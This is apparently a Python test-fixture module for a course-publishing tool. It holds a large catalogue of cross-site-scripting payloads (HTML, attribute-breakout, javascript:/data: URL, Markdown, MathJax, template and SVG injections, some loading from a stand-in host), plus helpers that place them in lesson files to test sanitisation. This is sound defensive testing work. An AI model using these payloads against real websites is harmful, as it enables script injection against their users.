# SPDX-License-Identifier: Apache-2.0
"""What hostile authors write: more than two hundred texts, each of which would call `alert`, `print` or `prompt` somewhere."""

ELEMENTS = """\
<script>alert(1)</script>
<SCRIPT>alert(1)</SCRIPT>
<script src=//x.test/a.js></script>
<script/src=data:,alert(1)></script>
<script type=module>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script
>alert(1)</script
>
<svg><script>alert(1)</script></svg>
<svg><script href=data:,alert(1) />
<svg/onload=alert(1)>
<svg onload=alert(1)//
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=onload to=alert(1)>
<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)>#x">
<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><desc><img src=x onerror=alert(1)></desc></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<math href="javascript:alert(1)">x</math>
<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mtext><img src=x onerror=alert(1)></mtext></math>
<math><style><img src=x onerror=alert(1)></style></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)">
<img src=x onerror='alert(1)'>
<img src=x onerror=alert`1`>
<img/src=x/onerror=alert(1)>
<img src=x oNeRrOr=alert(1)>
<img src=x onerror
=alert(1)>
<img src=x:x onerror=alert(1) x=
<img src="x` `<script>alert(1)</script>"` `>
<img srcset=x onerror=alert(1)>
<img src=javascript:alert(1)>
<img lowsrc=javascript:alert(1)>
<img dynsrc=javascript:alert(1)>
<image src=x onerror=alert(1)>
<picture><source srcset=x><img onerror=alert(1)></picture>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<video poster=javascript:alert(1)></video>
<video onloadstart=alert(1)><source></video>
<audio src=x onerror=alert(1)></audio>
<audio autoplay onplay=alert(1) src=data:audio/wav,></audio>
<track onerror=alert(1) src=x>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<body background=javascript:alert(1)>
<html onmouseover=alert(1)>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe srcdoc='&lt;script&gt;parent.alert(1)&lt;/script&gt;'></iframe>
<iframe onload=alert(1)></iframe>
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>
<object data=javascript:alert(1)></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<object type=text/x-scriptlet data=//x.test></object>
<embed src=javascript:alert(1)>
<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<applet code=x onerror=alert(1)></applet>
<link rel=stylesheet href=javascript:alert(1)>
<link rel=import href=data:text/html,<script>alert(1)</script>>
<link rel=preload as=script href=x onerror=alert(1)>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0;url=data:text/html,<script>alert(1)</script>">
<meta http-equiv=Content-Security-Policy content="script-src *">
<base href=javascript:alert(1)//>
<base href=//x.test/>
<style>@import 'javascript:alert(1)';</style>
<style>*{background:url(javascript:alert(1))}</style>
<style onload=alert(1)></style>
<style><!--</style><script>alert(1)//--></script>
<div style="background:url(javascript:alert(1))">x</div>
<div style="width:expression(alert(1))">x</div>
<div style="-moz-binding:url(x)">x</div>
<p style="position:fixed;inset:0">x</p>
<div onclick=alert(1)>x</div>
<div onmouseover="alert(1)">x</div>
<div onpointerrawupdate=alert(1)>x</div>
<div onfocus=alert(1) tabindex=1 autofocus>x</div>
<div contenteditable onblur=alert(1) autofocus>x</div>
<div onanimationstart=alert(1) style="animation:x 1s">x</div>
<div ontransitionend=alert(1)>x</div>
<div onscrollend=alert(1)>x</div>
<div popover onbeforetoggle=alert(1)>x</div>
<details open ontoggle=alert(1)>x</details>
<details/open/ontoggle="alert(1)">
<summary onclick=alert(1)>x</summary>
<details markdown=1 ontoggle="alert(1)"><summary onclick=alert(1)>x</summary>y</details>
<sub onclick=alert(1)>x</sub>
<sup/onmouseover="alert(1)">x</sup>
<kbd style="background:url(javascript:alert(1))" onfocus=alert(1) tabindex=1 autofocus>x</kbd>
<br onload=alert(1)><br/style=position:fixed/>
<sub><script>alert(1)</script></sub>
<details><summary><img src=x onerror=alert(1)></summary></details>
<marquee onstart=alert(1)>x</marquee>
<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>
<dialog open onclose=alert(1)><form method=dialog><button autofocus>x</button></form></dialog>
<form action=javascript:alert(1)><input type=submit autofocus></form>
<form><button formaction=javascript:alert(1)>x</button></form>
<form id=sinau-course><input name=textContent></form>
<input autofocus onfocus=alert(1)>
<input type=image src=x onerror=alert(1)>
<select autofocus onfocus=alert(1)></select>
<select><style></select><img src=x onerror=alert(1)></style></select>
<textarea autofocus onfocus=alert(1)></textarea>
<textarea></textarea><img src=x onerror=alert(1)></textarea>
<keygen autofocus onfocus=alert(1)>
<button autofocus onfocus=alert(1)>x</button>
<button popovertarget=x onclick=alert(1)>x</button>
<isindex action=javascript:alert(1) type=image>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>
<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
<plaintext><img src=x onerror=alert(1)>
<title><img src=x onerror=alert(1)></title></title><script>alert(1)</script>
<template><script>alert(1)</script></template>
<template shadowrootmode=open><script>alert(1)</script></template>
<slot onslotchange=alert(1)></slot>
<x onclick=alert(1)>x</x>
<x-x onconnected=alert(1) is=x></x-x>
<a href=javascript:alert(1)>x</a>
<a href="javascript:alert(1)">x</a>
<a href=JaVaScRiPt:alert(1)>x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="&#x6a;avascript:alert(1)">x</a>
<a href="&#0000106avascript:alert(1)">x</a>
<a href="java&#9;script:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="javascript&#58;alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="livescript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="blob:https://x.test/1">x</a>
<a href="filesystem:https://x.test/1">x</a>
<a href="x" onclick=alert(1)>x</a>
<a href="x" ping=javascript:alert(1)>x</a>
<a href="x" target=_parent style=position:fixed>x</a>
<a id=sinau-course name=sinau-strings>x</a>
<a xlink:href=javascript:alert(1)>x</a>
<area href=javascript:alert(1) shape=default>
<map name=m><area href=javascript:alert(1)></map><img usemap=#m src=x>
<table background=javascript:alert(1)><tr><td>x</table>
<table><td background=javascript:alert(1)>x</table>
<table><tr><td><img src=x onerror=alert(1)></table>
<b <script>alert(1)</script>0
<b onmouseover=alert(1)//>x</b
<<script>alert(1)//<</script>
<<img src=x onerror=alert(1)>>
< img src=x onerror=alert(1)>
</p onmouseover=alert(1)><p>x
<p title="</p><img src=x onerror=alert(1)>">x</p>
<p title='"><img src=x onerror=alert(1)>'>x</p>
<p title="&quot;><img src=x onerror=alert(1)>">x</p>
<p lang='" onmouseover="alert(1)'>x</p>
<time datetime='" onclick="alert(1)'>x</time>
<ol start='1" onclick="alert(1)'><li>x</ol>
<q cite=javascript:alert(1)>x</q>
<blockquote cite=javascript:alert(1)>x</blockquote>
<del cite=javascript:alert(1)>x</del>
<!--<script>alert(1)</script>-->
<!--><script>alert(1)</script>-->
<!--><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)>-->
<!-- <!-- --> <img src=x onerror=alert(1)> -->
<![CDATA[<img src=x onerror=alert(1)>]]>
<![CDATA[ ]]><script>alert(1)</script>
<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;
<?xml-stylesheet href="javascript:alert(1)"?>
<?php echo '<script>alert(1)</script>' ?>
<% alert(1) %>
<div id="question-place-0"></div>
<div id=question-place-0></div><div id=question-place-1></div>
<div class="question" data-question="satu-1">x</div>
<article class=activity data-activity=satu><script>alert(1)</script></article>"""

TEXTS = """\
" onmouseover="alert(1)
' onmouseover='alert(1)
" autofocus onfocus="alert(1)" x="
"><img src=x onerror=alert(1)>
'><img src=x onerror=alert(1)>
</title><script>alert(1)</script>
</style><script>alert(1)</script>
</script><script>alert(1)</script>
</script ><img src=x onerror=alert(1)>
</textarea><script>alert(1)</script>
</noscript><script>alert(1)</script>
</article></main><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
*/alert(1)/*
`-alert(1)-`
${alert(1)}
#{alert(1)}
{{7*7}}{{config}}{%include 'x'%}
{{constructor.constructor('alert(1)')()}}
{% raw %}<script>alert(1)</script>{% endraw %}
{{ '<script>alert(1)</script>' | safe }}
\\u003cscript\\u003ealert(1)\\u003c/script\\u003e
\\x3cscript\\x3ealert(1)\\x3c/script\\x3e
%3Cscript%3Ealert(1)%3C/script%3E
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&amp;lt;img src=x onerror=alert(1)&amp;gt;
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
javascript:alert(1)
JAVASCRIPT:alert(1)
javascript://%0aalert(1)
javascript://x.test/%0aalert(1)
data:text/html,<script>alert(1)</script>
data:image/svg+xml,<svg onload=alert(1)>
vbscript:msgbox(1)
http://x.test/"onmouseover="alert(1)
https://x.test/'><script>alert(1)</script>
https://x.test/?a=<img src=x onerror=alert(1)>
www.x.test/"><img/src=x/onerror=alert(1)>
a@b.test"onclick="alert(1)
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](<javascript:alert(1)>)
[x](&#106;avascript:alert(1))
[x](javascript&colon;alert(1))
[x](java%0ascript:alert(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](https://x.test "\\" onmouseover=\\"alert(1)")
[x](https://x.test '" onmouseover="alert(1)')
[x](https://x.test/"onmouseover="alert(1))
[x](//x.test/a)
[x]: javascript:alert(1)
![x](javascript:alert(1))
![x](data:image/svg+xml,<svg onload=alert(1)>)
![" onerror="alert(1)](media/a.png)
![x](media/a.png '" onerror="alert(1)')
![x](media/a.png"onerror="alert(1))
![<img src=x onerror=alert(1)>](media/a.png)
![" onplay="alert(1)](media/v.mp4)
![x](media/v.mp4 '"><script>alert(1)</script>')
<javascript:alert(1)>
<https://x.test/"onmouseover="alert(1)>
$\\href{javascript:alert(1)}{x}$
$\\text{<script>alert(1)</script>}$
$\\text{<img src=x onerror=alert(1)>}$
$\\style{background:url(javascript:alert(1))}{x}$
$\\class{"onclick="alert(1)}{x}$
$\\color{red" onclick="alert(1)}x$
$$\\unicode{<script>alert(1)</script>}$$
$\\mathrm{</math><script>alert(1)</script>}$
$</math><img src=x onerror=alert(1)>$
[x](https://x.test){onclick="alert(1)"}
[x](https://x.test){href="javascript:alert(1)" target="javascript:alert(1)"}
[x](https://x.test){: style="position:fixed" class="sinau-top" id='" onclick="alert(1)'}
[x]{#a"onclick="alert(1) .mark}
[x]{lang='" onmouseover="alert(1)' dir="javascript:alert(1)"}
[<img src=x onerror=alert(1)>]{.mark}
![x](media/a.png){onerror="alert(1)" src="javascript:alert(1)"}
![x](media/a.png){width='1" onerror="alert(1)' height=1%22}
![x](media/a.png){alt='" onerror="alert(1)' title='"><script>alert(1)</script>'}
**x**{#sinau-course .question data-question=q-1}
:"><script>alert(1)</script>:
:smile:<img src=x onerror=alert(1)>:smile:
`<script>alert(1)</script>`
[^"onmouseover="alert(1)]
::: note "<script>alert(1)</script>" :::
::: {.callout-note title='"><script>alert(1)</script>'}
::: {.callout-note title="<img src=x onerror=alert(1)>" onclick="alert(1)"}
::: {#a"onclick="alert(1) .callout-note}
::: challenge <img src=x onerror=alert(1)> :::::
sinau.deliver("satu","<img src=x onerror=alert(1)>")"""


def payloads() -> list[str]:
    """Return all of them; lines that start with a blank, `=` or `>` belong to the one above."""
    found: list[str] = []
    for line in f"{ELEMENTS}\n{TEXTS}".split("\n"):
        if found and line[:1] in {" ", "=", ">"}:
            found[-1] += f"\n{line}"
        else:
            found.append(line)
    return found


# Drawings, each of which acts when it is opened by itself, or calls other hosts.
DRAWINGS = [
    '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><SCRIPT>alert(1)</SCRIPT></svg>',
    '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></s:svg>',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "<svg xmlns='http://www.w3.org/2000/svg' ONLOAD='alert(1)'/>",
    '<svg xmlns="http://www.w3.org/2000/svg"\nonload\n=\n"alert(1)"/>',
    '<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><a href="&#106;avascript:alert(1)"><text>x</text></a></svg>',
    '<svg xmlns:x="http://www.w3.org/1999/xlink"><a x:href="https://x.test"/></svg>',
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/></a></svg>',
    '<svg><a><animate attributeName="&#104;ref" values="javascript:alert(1)"/></a></svg>',
    "<svg><a><set attributeName='xlink:href' to=\"javascript:alert(1)\"/></a></svg>",
    '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>',
    '<svg><foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject></svg>',
    '<svg><h:iframe xmlns:h="http://www.w3.org/1999/xhtml" srcdoc="x"/></svg>',
    '<svg><h:meta xmlns:h="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0"/></svg>',
    '<!DOCTYPE svg [<!ENTITY x "&#60;script>alert(1)&#60;/script>">]><svg>&x;</svg>',
    '<?xml version="1.0"?><?xml-stylesheet href="https://x.test/a.xsl" type="text/xsl"?><svg/>',
    '<?xml version="1.0" encoding="UTF-7"?><svg>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</svg>',
    '<svg><style>@import "https://x.test/a.css";</style></svg>',
    "<svg><style><![CDATA[@import 'https://x.test/a.css';]]></style></svg>",
    "<svg><style>rect { fill: u\\72l(https://x.test/a) }</style></svg>",
    "<svg><style>rect { fill: &#117;rl(https://x.test/a) }</style></svg>",
    '<svg><rect style="fill:url(https://x.test/a)"/></svg>',
    '<svg><rect style="fill:u\\72 l(https://x.test/a)"/></svg>',
    "<svg><rect style='fill:&#x75;rl(https://x.test/a)'/></svg>",
    '<svg><rect fill="url(&quot;https://x.test/a&quot;)"/></svg>',
    '<svg><image href="https://x.test/a.png"/></svg>',
    '<svg><image xlink:href="data:image/svg+xml,x"/></svg>',
    '<svg><use href="other.svg#x"/></svg>',
    '<svg xml:base="javascript:alert(1)"><a href="#x"/></svg>',
    '<svg><handler type="application/ecmascript">alert(1)</handler></svg>',
    "<svg><!-- --><script><!-- -->alert(1)</script></svg>",
]

LESSON = """\
---
id: satu
title: "TITLE"
sources:
  - text: "TITLE"
---

"""
COURSE = """\
id: kursus
title: "TITLE"
language: en
version: "TITLE"
summary: "TITLE"
audience: ["TITLE"]
modules:
  - id: dasar
    title: "TITLE"
    lessons: [01.md]
"""
# Where in a lesson an author's words go.
BODIES = {
    "text": "Kata PAYLOAD",
    "block": "PAYLOAD",
    "list": "- PAYLOAD\n\n  PAYLOAD",
    "table": "|a|\n|-|\n|PAYLOAD|",
    "heading": "## PAYLOAD",
    "code": "```PAYLOAD\nx\n```",
    "coloured code": "```html\nPAYLOAD\n```\n\n```js\nPAYLOAD\n```",
    "note": '::: note "PAYLOAD"\nPAYLOAD\n:::',
    "callout": '::: {.callout-tip title="PAYLOAD" collapse="true"}\nPAYLOAD\n:::\n\n::: solution\n## PAYLOAD\n\nPAYLOAD\n:::',
    "link": "[PAYLOAD](https://example.org 'PAYLOAD')",
    "address": "[x](<PAYLOAD>)",
    "picture": "![PAYLOAD](media/a.png 'PAYLOAD')",
    "recording": "![PAYLOAD](media/v.mp4 'PAYLOAD')",
    "formula": "$\\text{PAYLOAD}$",
    "footnote": "a[^1]\n\n[^1]: PAYLOAD",
    "element": '<details id="PAYLOAD" title="PAYLOAD"><summary>PAYLOAD</summary>\n\nPAYLOAD\n\n</details>',
    "question": "::: question IDENT\n\nPAYLOAD\n\n- [x] PAYLOAD\n  > PAYLOAD\n- [ ] b\n\n? PAYLOAD\n\n! PAYLOAD\n\n:::",
}


def catalogue(body: str, said: str = "Plain", html: bool = True, transcript: str = "Plain") -> dict[str, str]:
    """Return the files of a catalogue whose one lesson holds `body`; `said` stands in every setting and meaning."""
    quoted = said.replace("\\", "\\\\").replace('"', '\\"')
    return {
        "catalogue.yml": f'format: 1\ntitle: "{quoted}"\npublisher: "{quoted}"\nhtml: {"yes" if html else "no"}\n',
        "kursus/course.yml": COURSE.replace("TITLE", quoted),
        "kursus/istilah.yml": f'terms:\n  - term: Kata\n    meaning: "{quoted}"\n  - term: "{quoted}"\n    meaning: "{quoted}"\n',
        "kursus/01.md": LESSON.replace("TITLE", quoted) + body,
        "kursus/media/a.png": "",
        "kursus/media/v.mp4": "",
        "kursus/media/v.vtt": "WEBVTT\n",
        "kursus/media/v.transcript.txt": transcript,
    }
